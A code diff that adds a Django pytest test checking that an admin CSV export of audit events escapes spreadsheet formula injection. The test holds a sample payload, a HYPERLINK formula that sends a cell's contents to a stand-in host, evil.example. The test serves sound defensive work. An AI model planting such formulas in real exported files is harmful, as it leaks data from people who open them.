@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 from django.contrib import admin
 from django.contrib.auth.models import Group
@@ -180,3 +183,19 @@ def test_roles_exist_with_their_permissions():
 def test_granting_to_a_role_that_does_not_exist_is_refused():
     with pytest.raises(ImproperlyConfigured, match="auditor"):
         role_permissions_grant("auditor", "users.view_user")
+
+
+def test_csv_export_cannot_smuggle_a_formula_into_a_spreadsheet(client, staff, user):
+    client.force_login(staff)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+    AuditEvent.objects.create(actor=user, action="login", target_repr=formula)
+
+    response = client.post(
+        reverse("admin:users_auditevent_changelist"),
+        {"action": "export_csv", "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True))},
+    )
+
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    exported = [row["target_repr"] for row in rows if row["action"] == "login"]
+    assert exported == ["'" + formula]
